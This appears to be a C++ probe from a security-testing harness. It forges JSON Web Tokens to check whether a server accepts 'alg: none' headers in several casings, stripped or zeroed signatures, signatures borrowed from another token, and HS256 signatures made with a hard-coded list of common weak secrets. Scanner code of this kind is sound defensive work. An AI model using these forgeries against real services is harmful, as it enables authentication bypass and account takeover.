#include "harness/probe/toolbox.hpp"
#include "probes/token/forged/probe.hpp"

#include <nlohmann/json.hpp>
#include <openssl/evp.h>
#include <openssl/hmac.h>

namespace watertight::probes::token::forged {

// What people leave in place from examples and first drafts.
static constexpr std::string_view weak_keys[] = {
    "",
    "secret",
    "changeme",
    "password",
    "jwt-secret",
    "jwt_secret",
    "your-256-bit-secret",
    "your-secret-key",
    "supersecret",
    "secretkey",
    "key",
    "test",
    "dev",
    "development",
    "default",
    "123456",
    "my-secret",
    "mysecret",
};

static std::string hs256(std::string_view key, std::string_view text)
{
    std::string mac(EVP_MAX_MD_SIZE, '\0');
    unsigned length = 0;
    // An empty key must still be a valid pointer.
    HMAC(
        EVP_sha256(),
        key.empty() ? "" : key.data(),
        static_cast<int>(key.size()),
        reinterpret_cast<unsigned char const*>(text.data()),
        text.size(),
        reinterpret_cast<unsigned char*>(mac.data()),
        &length
    );
    mac.resize(length);
    return mac;
}

bool is_jwt(std::string_view token)
{
    auto const parts = split(token, '.');
    if (parts.size() != 3) return false;
    auto const header = base64_decode(parts[0]);
    if (!header) return false;
    auto const json = nlohmann::json::parse(*header, nullptr, false);
    return json.is_object() && json.contains("alg");
}

static std::string header(std::string_view alg)
{
    return base64url(nlohmann::json{{"alg", alg}, {"typ", "JWT"}}.dump());
}

std::vector<forgery> forge(std::string_view victims, std::string_view own)
{
    std::vector<forgery> out;
    if (!is_jwt(victims)) return out;
    auto const parts = split(victims, '.');
    std::string const payload{parts[1]};
    std::string const original{parts[0]};
    for (auto const* const none : {"none", "None", "NONE", "nOnE"}) {
        out.push_back({fmt::format("alg {}", none), header(none) + "." + payload + "."});
    }
    out.push_back({"alg none, no second dot", header("none") + "." + payload});
    out.push_back({"signature left out", original + "." + payload + "."});
    out.push_back(
        {"signature of zeros", original + "." + payload + "." + base64url(std::string(32, '\0'))}
    );
    if (is_jwt(own)) {
        auto const own_signature = split(own, '.')[2];
        out.push_back(
            {"signature of another token",
             fmt::format("{}.{}.{}", original, payload, own_signature)}
        );
    }
    for (auto const key : weak_keys) {
        auto const text = header("HS256") + "." + payload;
        auto const name = fmt::format("HS256 with the key '{}'", key);
        out.push_back({name, text + "." + base64url(hs256(key, text))});
    }
    return out;
}

} // namespace watertight::probes::token::forged
